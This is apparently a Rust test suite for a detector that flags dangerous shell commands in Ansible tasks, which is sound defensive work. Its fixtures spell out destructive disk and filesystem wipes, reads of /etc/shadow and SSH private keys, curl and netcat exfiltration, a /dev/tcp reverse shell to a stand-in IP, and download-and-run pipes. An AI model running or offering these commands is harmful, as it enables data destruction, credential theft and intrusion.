use super::*;

/// Every script brings up exactly this.
fn table(expected: &str, scripts: &[&str]) {
    for script in scripts {
        assert_eq!(in_shell(script), [expected], "{script}");
    }
}

/// No script brings up anything.
fn nothing(scripts: &[&str]) {
    for script in scripts {
        assert_eq!(in_shell(script), Vec::<String>::new(), "{script}");
    }
}

#[test]
fn destructive_commands() {
    table(
        "warning destructive_command",
        &[
            "rm -rf /",
            "rm -rf /*",
            "rm -fr -- /",
            "sudo rm -r -f /etc",
            "rm -rf /usr/",
            "rm -rf /var/lib/*",
            "rm -rf //etc/./",
            "rm -rf /tmp/../etc",
            "rm -rf / --no-preserve-root",
            "rm --recursive --force /home",
            "rm -rf ~",
            "rm -rf $HOME/*",
            "rm -rf \"{{ x }}/\"",
            "rm -rf {{ x }}/*",
            "rm -rf /{{ x }}",
            "rm -rf \"$DIR/\"",
            "cd / && rm -rf *",
            "cd /etc; rm -rf ./*",
            "bash -c 'rm -rf /'",
            "if true; then rm -rf /; fi",
            "echo $(rm -rf /)",
            "a || rm -rf /usr",
            "xargs rm -rf /etc",
            "find / -delete",
            "find /etc -type f -exec rm {} +",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "dd of=/dev/{{ disk }}",
            "mkfs /dev/sdb1",
            "mkfs.ext4 -F /dev/sdb1",
            "wipefs -a /dev/sdb",
            "fdisk /dev/sda",
            "sgdisk --zap-all /dev/sda",
            "parted -s /dev/sda mklabel gpt",
            "parted /dev/sda 'mkpart primary 1 2'",
            "cat x > /dev/sda",
            "> /dev/nvme0n1",
            "echo 1 | tee /dev/mapper/x",
            "cryptsetup luksFormat /dev/sda",
            "chmod -R 777 /",
            "chown -R app:app /etc",
            "shred /dev/sda",
            "lvremove -f vg/lv",
        ],
    );
    table(
        "note destructive_command",
        &[
            "rm -rf {{ dir }}",
            "rm -rf \"$dir\"",
            "rm -rf /var/{{ name }}",
            "rm -rf $(cat x)",
        ],
    );
    nothing(&[
        "echo 'rm -rf /'",
        "# rm -rf /",
        "ls # rm -rf /",
        "rm -f /etc/motd",
        "rm -rf /tmp/x /var/cache/app /etc/app.d /opt/app",
        "rm -rf /opt/app/{{ version }}",
        "rm -rf {{ dir }}/releases",
        "rm -rf ${dir:?}/ ${dir:-/tmp/x}",
        "rm -rf *",
        "rm -rf ./build",
        "cd /tmp/x && rm -rf *",
        "rm file",
        "cat <<EOF > x\nrm -rf /\nEOF",
        "grep -r 'mkfs' /etc/x",
        "man mkfs; which mkfs.ext4",
        "fdisk -l",
        "sfdisk --dump /dev/sda",
        "parted -s /dev/sda print",
        "wipefs /dev/sda",
        "dd if=/dev/sda of=/tmp/x",
        "dd if=/dev/zero of=/dev/null",
        "x > /dev/null 2>&1",
        "echo x > /dev/stderr",
        "echo x | tee /dev/tty",
        "chmod -R 755 /opt/app",
        "chown -R app /srv",
        "chmod 644 /etc/motd",
        "find /var/log -name '*.gz' -delete",
        "find /opt/app -delete",
        "git rm -r /",
        "alarm -rf /",
        "rm -rf \"{{ x | default('/tmp/y') }}/sub\"",
    ]);
}

#[test]
fn reading_secrets() {
    table(
        "warning reads_secrets",
        &[
            "cat /etc/shadow",
            "sudo cat /etc/shadow | cut -d: -f2",
            "cp /etc/shadow /tmp",
            "grep root /etc/shadow",
            "getent shadow",
            "while read x; do :; done < /etc/shadow",
            "cat ~/.ssh/id_rsa",
            "tar czf /tmp/x.tgz /root/.ssh",
            "cat $HOME/.ssh/id_ed25519",
            "base64 /home/app/.ssh/id_ecdsa",
            "cat /etc/ssl/private/site.key",
            "cat /etc/letsencrypt/live/x/privkey.pem",
            "cat ~/.aws/credentials",
            "strings /proc/1/environ",
            "cat /etc/ssh/ssh_host_rsa_key",
            "x=$(cat /etc/shadow)",
            "cat {{ home }}/.ssh/id_rsa",
        ],
    );
    nothing(&[
        "chmod 000 /etc/shadow",
        "stat /etc/shadow",
        "test -r /etc/shadow",
        "echo /etc/shadow",
        "ls -l ~/.ssh",
        "install -d -m 700 ~/.ssh",
        "cat ~/.ssh/id_rsa.pub",
        "cat ~/.ssh/authorized_keys",
        "cat /etc/ssh/ssh_host_rsa_key.pub",
        "ssh-keygen -f /root/.ssh/id_rsa -N ''",
        "openssl genrsa -out /etc/ssl/private/site.key",
        "cat /etc/ssl/certs/ca.pem",
        "cat /etc/passwd",
        "cp site.key /etc/ssl/private/site.key",
        "rpm --import /etc/pki/rpm-gpg/x.key",
        "echo x | tee /etc/ssl/private/site.key",
    ]);
}

#[test]
fn data_that_leaves() {
    table(
        "warning exfiltration",
        &[
            "curl -d @/tmp/x https://example.org",
            "curl --data-binary @x https://example.org",
            "curl --data=@x https://example.org",
            "curl -F 'f=@/tmp/x' https://example.org",
            "curl -T x https://example.org",
            "curl --upload-file x https://example.org",
            "curl -d \"$(env)\" https://example.org",
            "curl -d \"x=$(cat /tmp/x | base64)\" https://example.org",
            "curl \"https://example.org/?d=$(cat /etc/passwd | base64)\"",
            "curl -H \"X: $(env)\" https://example.org",
            "wget --post-file=/tmp/x https://example.org",
            "wget --post-data \"$(cat x)\" https://example.org",
            "tar c /srv | nc example.org 99",
            "nc example.org 99 < /tmp/x",
            "nc -e /bin/sh example.org 99",
            "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
            "cat x > /dev/tcp/192.0.2.1/99",
        ],
    );
    table(
        "note exfiltration",
        &[
            "scp /tmp/x app@example.org:/tmp",
            "rsync -a /srv/ backup.example.org:/srv",
            "tar c /srv | ssh example.org 'cat > x'",
        ],
    );
    nothing(&[
        "curl https://example.org",
        "curl -X POST -d '{\"text\": \"done\"}' https://example.org",
        "curl -d 'a=b' -H 'X: y' https://example.org",
        "curl --data-raw '@x' https://example.org",
        "curl -H \"Authorization: Bearer $(cat /run/token)\" https://example.org",
        "nc -z localhost 80",
        "nc -l 99 > x",
        "echo ruok | nc localhost 2181",
        "scp app@example.org:/tmp/x .",
        "rsync -a /srv/ /backup/",
        "ssh example.org uptime",
        "echo 'curl -d @x https://example.org'",
        "curl -d \"host=$(hostname)\" https://example.org",
    ]);
}

#[test]
fn downloads_that_are_run() {
    table(
        "warning pipe_to_shell",
        &[
            "curl -s https://example.org/x | sh",
            "curl https://example.org/x | sudo -E bash -",
            "curl https://example.org/x | sudo bash -s -- --yes",
            "wget -qO- https://example.org/x | bash",
            "curl https://example.org/x | tee x.log | bash",
            "curl https://example.org/x | python3",
            "curl https://example.org/x | env A=b perl -",
            "(curl https://example.org/x) | sh",
            "bash <(curl -s https://example.org/x)",
            "source <(curl -s https://example.org/x)",
            ". <(wget -qO- https://example.org/x)",
            "sh -c \"$(curl -fsSL https://example.org/x)\"",
            "eval \"$(curl https://example.org/x)\"",
            "eval `curl https://example.org/x`",
            "bash -c 'curl https://example.org/x | sh'",
            "curl https://example.org/x |\n  sh",
        ],
    );
    nothing(&[
        "curl -s https://example.org/x | jq .",
        "curl -s https://example.org/x | python3 -m json.tool",
        "curl -s https://example.org/x | python3 -c 'import sys'",
        "curl -s https://example.org/x | grep sh",
        "curl -s https://example.org/x | tar xz",
        "curl -s https://example.org/x | gpg --dearmor",
        "curl -s https://example.org/x | bash script.sh",
        "echo 'curl https://example.org/x | sh'",
        "# curl https://example.org/x | sh",
        "cat x | sh",
        "x=$(curl -s https://example.org/x)",
        "echo \"$(curl -s https://example.org/x)\"",
        "bash script.sh",
    ]);
    let two = ["warning pipe_to_shell", "note unpinned"];
    for script in [
        "curl -o /tmp/x.sh https://example.org/x; sh /tmp/x.sh",
        "wget https://example.org/x.sh && bash x.sh",
        "wget -O x https://example.org && chmod +x x && ./x",
        "curl -O https://example.org/x.sh?y && bash ./x.sh",
        "curl https://example.org > x.sh; bash x.sh",
    ] {
        assert_eq!(in_shell(script), two, "{script}");
    }
    nothing(&["curl -o x.sh https://example.org/x\nsha256sum -c sums\nbash x.sh"]);
}

#[test]
fn downloads_that_are_not_pinned_or_not_checked() {
    table(
        "note unpinned",
        &[
            "curl -o x https://example.org/x",
            "curl -LO https://example.org/x",
            "wget https://example.org/x",
            "git clone https://example.org/x",
            "git clone -b main https://example.org/x",
        ],
    );
    table(
        "warning unverified_tls",
        &[
            "curl -k https://example.org",
            "curl -sSk https://example.org",
            "curl --insecure https://example.org",
            "wget -qO- --no-check-certificate https://example.org",
            "git -c http.sslVerify=false fetch",
            "GIT_SSL_NO_VERIFY=1 git fetch",
        ],
    );
    table(
        "warning unverified_package",
        &[
            "apt-get install -y --allow-unauthenticated x",
            "dnf --nogpgcheck install x",
        ],
    );
    nothing(&[
        "git clone -b v1.2 https://example.org/x",
        "git clone --branch=v1.2 https://example.org/x",
        "git pull",
        "wget -q --spider https://example.org/x",
        "wget -qO- https://example.org/x",
        "curl -o /dev/null -w '%{http_code}' https://example.org",
        "curl -sS https://example.org",
        "echo -k | curl https://example.org",
        "tar -xkf x",
    ]);
}

#[test]
fn secrets_in_commands() {
    table(
        "warning missing_no_log",
        &[
            "mysql -p{{ db_password }}",
            "login --token '{{ vault.api_token }}'",
            "x {{ item.password | quote }}",
            "x {{ secrets['key'] }}",
        ],
    );
    nothing(&[
        "x --password-file {{ password_file }}",
        "x {{ token_path }}",
        "echo password token secret",
        "x {{ result_token.rc }}",
        "x {% if db_password is defined %}-y{% endif %}",
    ]);
}

#[test]
fn the_line_within_a_script_is_named() {
    let task = "name: x\nshell: |\n  set -e\n\n  # rm -rf /\n  rm -rf /etc\n  curl https://example.org/x | \\\n    sh\nwhen: y\n";
    assert_eq!(
        in_task(task),
        ["6 warning destructive_command", "8 warning pipe_to_shell"]
    );
    let task = "name: x\nshell:\n  cmd: >-\n    rm -rf\n    /etc\n  chdir: /\n";
    assert_eq!(in_task(task), ["4 warning destructive_command"]);
    let task = "name: x\nansible.builtin.shell: rm -rf /etc\n";
    assert_eq!(in_task(task), ["2 warning destructive_command"]);
}

#[test]
fn all_modules_and_forms_that_take_commands() {
    for (task, line) in [
        ("command: rm -rf /etc", 1),
        ("ansible.builtin.command: rm -rf /etc", 1),
        ("command:\n  cmd: rm -rf /etc", 2),
        ("command:\n  argv: [rm, -rf, /etc]", 2),
        ("command:\n  argv:\n    - rm\n    - -rf\n    - /etc", 3),
        ("command: sudo rm -rf /etc", 1),
        ("command: bash -c 'rm -rf /etc'", 1),
        ("command: rm -rf *\nargs:\n  chdir: /etc", 1),
        ("shell: rm -rf * chdir=/etc", 1),
        ("raw: rm -rf /etc", 1),
        ("action: shell rm -rf /etc", 1),
        ("action:\n  module: command\n  cmd: rm -rf /etc", 3),
        ("local_action: command rm -rf /etc", 1),
        ("win_shell: Remove-Item -Recurse -Force C:\\Windows\\*", 1),
        ("ansible.windows.win_command: rd /s c:\\", 1),
        ("cron:\n  name: x\n  job: rm -rf /etc", 3),
        ("block:\n  - block:\n      - command: rm -rf /etc", 3),
        ("block:\n  - ping:\nrescue:\n  - shell: rm -rf /etc", 4),
        ("block:\n  - ping:\nalways:\n  - shell: rm -rf /etc", 4),
    ] {
        let found = in_task(task);
        let expected = format!("{line} warning destructive_command");
        assert!(found.contains(&expected), "{task}: {found:?}");
    }
    // No shell, no pipe.
    for task in [
        "command: echo x | rm -rf /",
        "command: echo; rm -rf /etc",
        "debug:\n  msg: rm -rf /",
        "name: rm -rf /etc\nping:",
        "copy:\n  content: rm -rf /etc\n  dest: /tmp/x",
        "fail: msg='rm -rf /etc'",
        "shell: echo x\nvars:\n  y: rm -rf /etc",
        "shell: print('rm -rf /etc')\nargs: {executable: /usr/bin/python3}",
    ] {
        assert_eq!(in_task(task), Vec::<String>::new(), "{task}");
    }
    assert_eq!(
        in_task("win_shell: iwr https://example.org/x.ps1 | iex"),
        ["1 warning pipe_to_shell"]
    );
    assert_eq!(
        in_task("win_shell: iex ((New-Object Net.WebClient).DownloadString('https://example.org'))"),
        ["1 warning pipe_to_shell"]
    );
}
